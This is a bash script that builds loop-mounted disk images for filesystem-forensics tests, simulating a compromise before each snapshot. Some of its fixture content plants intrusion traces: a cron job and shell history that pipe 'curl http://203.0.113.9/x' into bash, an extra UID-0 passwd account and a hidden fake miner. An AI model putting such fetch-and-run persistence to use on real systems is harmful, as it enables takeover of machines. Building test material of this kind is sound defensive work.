#!/usr/bin/env bash
# Makes the disk images of tests/toolkit/filesystems/test_real_images.py, by the file systems' own tools and a kernel that mounts
# them. Needs root, loop devices, e2fsprogs, xfsprogs, btrfs-progs, dosfstools, mtools, xz. Usage: make_images.sh [NAME…]
set -euo pipefail
# in a mount namespace of its own: nothing else can hold a file system that was unmounted here
[ "${ALONE:-}" ] || ALONE=1 exec unshare --mount --propagation private bash "$0" "$@"
OUT=$(cd "$(dirname "$0")" && pwd)
WORK=$(mktemp -d)
M=$WORK/mount
mkdir "$M"
trap 'umount -q "$M" || true; rm -rf "$WORK"' EXIT

settled() { # a small system, as it was long before the snapshot
    mkdir -p "$1"/{etc/cron.d,var/log,root,usr/bin,opt,srv/old}
    printf 'root:x:0:0:root:/root:/bin/bash\n' >"$1/etc/passwd"
    : >"$1/etc/fstab"
    printf 'Nov 10 10:00:00 web sshd[1]: Accepted password for root from 203.0.113.9 port 4000 ssh2\n' >"$1/var/log/auth.log"
    for number in $(seq 30); do printf '\177ELF %s\n' "$number" >"$1/usr/bin/tool$number"; done
    for number in $(seq 60); do printf 'old %s\n' "$number" >"$1/srv/old/file$number"; done
    chmod 755 "$1"/usr/bin/*
}

last_minute() { # an intruder, right before the snapshot; everything is forced to the disk, as editors and shells do
    python3 - "$1" <<'PY'
import os, shutil, sys

root = sys.argv[1]


def write(path, text, mode=0o644):
    path = f"{root}/{path}"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write(text)
        file.flush()
        os.chmod(path, mode)
        os.fsync(file.fileno())


write("etc/passwd", "intruder:x:0:0::/root:/bin/bash\n")
write("etc/cron.d/evil", "* * * * * root curl http://203.0.113.9/x | bash\n")
write("root/.bash_history", "curl http://203.0.113.9/x | bash\n")
write("opt/.cache/kworker", "\x7fELF miner\n", 0o755)
# blocks that are given up and used again: revoked in a journal of ext4, cancelled in a log of XFS
for turn in range(3):
    for number in range(200):
        write(f"srv/turn{turn}/{'n' * 80}{number}", f"{number}\n")
    if turn < 2:
        shutil.rmtree(f"{root}/srv/turn{turn}")
os.remove(f"{root}/srv/old/file7")
os.rename(f"{root}/srv/old/file8", f"{root}/srv/renamed")
os.symlink("/tmp/" + "x" * 300, f"{root}/srv/link")
with open(f"{root}/srv/sparse", "wb") as file:
    for place in range(0, 4_000_000, 16384):
        file.seek(place)
        file.write(b"x" * 4096)
    file.flush()
    os.fsync(file.fileno())
for folder in ("etc/cron.d", "opt/.cache", "root", "srv", "srv/old"):
    handle = os.open(f"{root}/{folder}", os.O_RDONLY)
    os.fsync(handle)
    os.close(handle)
write("root/.late", "a change small enough for a fast commit\n")
PY
}

facts() { # what a mount makes of it: path, type and mode, size, times in nanoseconds, SHA-256 or target
    python3 - "$1" <<'PY'
import hashlib, json, os, stat, sys

root, found = sys.argv[1], {}
for folder, names, files in os.walk(root):
    for name in (*names, *files):
        path = os.path.join(folder, name)
        facts = os.lstat(path)
        content = ""
        if stat.S_ISREG(facts.st_mode):
            content = hashlib.sha256(open(path, "rb").read()).hexdigest()
        elif stat.S_ISLNK(facts.st_mode):
            content = os.readlink(path)
        found[path[len(root):]] = [facts.st_mode, facts.st_size, facts.st_mtime_ns, facts.st_ctime_ns, content]
json.dump(found, sys.stdout, indent=0, sort_keys=True)
PY
}

wanted() { [ ${#NAMES[@]} = 0 ] || [[ " ${NAMES[*]} " == *" $1 "* ]]; }

keep() { # name: the image, packed
    xz -9e --threads=1 --stdout "$WORK/$1.raw" >"$OUT/$1.raw.xz"
    echo "$1: $(stat -c %s "$OUT/$1.raw.xz") bytes"
}

dirty() { # name size command…: settled, mounted again, changed, copied while mounted; then what a mount makes of the copy
    local name=$1 image=$WORK/$1.raw
    wanted "$name" || return 0
    truncate -s "$2" "$image"
    shift 2
    "$@" "$image" >/dev/null
    mount -o loop "$image" "$M"
    settled "$M"
    umount "$M"
    mount -o loop "$image" "$M"
    last_minute "$M"
    cp --sparse=always "$image" "$WORK/copy.raw"
    umount "$M"
    mv "$WORK/copy.raw" "$image"
    cp --sparse=always "$image" "$WORK/mounted.raw"
    mount -o loop "$WORK/mounted.raw" "$M"
    facts "$M" | xz -9e >"$OUT/$name.json.xz"
    umount "$M"
    keep "$name"
}

NAMES=("$@")
dirty ext4-dirty 24M mke2fs -q -F -t ext4 -b 1024 -J size=4
dirty ext4-dirty-plain 24M mke2fs -q -F -t ext4 -b 4096 -J size=8 -O ^metadata_csum,^64bit
dirty ext3-dirty 24M mke2fs -q -F -t ext3 -b 2048 -J size=4
dirty ext4-fast-commit 24M mke2fs -q -F -t ext4 -b 1024 -J size=6 -O fast_commit
dirty xfs-dirty 300M mkfs.xfs -q -f
dirty xfs-dirty-small-blocks 300M mkfs.xfs -q -f -b size=1024 -m bigtime=0,rmapbt=1,reflink=1
dirty btrfs-dirty 110M mkfs.btrfs -q -f

if wanted ext4-bigalloc; then
    settled "$WORK/tree"
    mke2fs -q -F -t ext4 -O bigalloc -C 16384 -d "$WORK/tree" "$WORK/ext4-bigalloc.raw" 24M
    keep ext4-bigalloc
fi
if wanted btrfs-subvolumes; then # as installers lay it out: @ and @home, a snapshot taken before the intruder came
    truncate -s 110M "$WORK/btrfs-subvolumes.raw"
    mkfs.btrfs -q -f -L data "$WORK/btrfs-subvolumes.raw"
    mount -o loop "$WORK/btrfs-subvolumes.raw" "$M"
    for name in @ @home; do btrfs -q subvolume create "$M/$name"; done
    settled "$M/@"
    mkdir -p "$M/@home/kim/.ssh" "$M/@/home" "$M/@/.snapshots"
    UUID=$(blkid -o value -s UUID "$WORK/btrfs-subvolumes.raw")
    printf 'UUID=%s / btrfs subvol=@ 0 0\nUUID=%s /home btrfs subvol=/@home 0 0\n' "$UUID" "$UUID" >"$M/@/etc/fstab"
    printf 'the only copy\n' >"$M/@/srv/removed-later"
    btrfs -q subvolume snapshot -r "$M/@" "$M/@/.snapshots/1"
    rm "$M/@/srv/removed-later"
    printf 'intruder:x:0:0::/root:/bin/bash\n' >>"$M/@/etc/passwd"
    printf 'curl http://203.0.113.9/x | bash\n' >"$M/@home/kim/.bash_history"
    umount "$M"
    keep btrfs-subvolumes
fi
if wanted btrfs-two-devices; then
    for number in 1 2; do truncate -s 130M "$WORK/btrfs-two-devices-$number.raw"; done
    DEVICES=()
    for number in 1 2; do DEVICES+=("$(losetup --find --show "$WORK/btrfs-two-devices-$number.raw")"); done
    mkfs.btrfs -q -f -d raid0 -m raid1 "${DEVICES[@]}"
    mount "${DEVICES[0]}" "$M"
    settled "$M"
    umount "$M"
    losetup --detach "${DEVICES[@]}"
    for number in 1 2; do keep "btrfs-two-devices-$number"; done
fi
if wanted esp; then
    truncate -s 34M "$WORK/esp.raw"
    mkfs.vfat -F 32 -n EFI "$WORK/esp.raw" >/dev/null
    printf 'MZ boot loader\n' >"$WORK/BOOTX64.EFI"
    mmd -i "$WORK/esp.raw" ::EFI ::EFI/BOOT
    mcopy -i "$WORK/esp.raw" "$WORK/BOOTX64.EFI" ::EFI/BOOT/
    keep esp
fi
if wanted swap; then
    truncate -s 1M "$WORK/swap.raw"
    mkswap "$WORK/swap.raw" >/dev/null 2>&1
    keep swap
fi
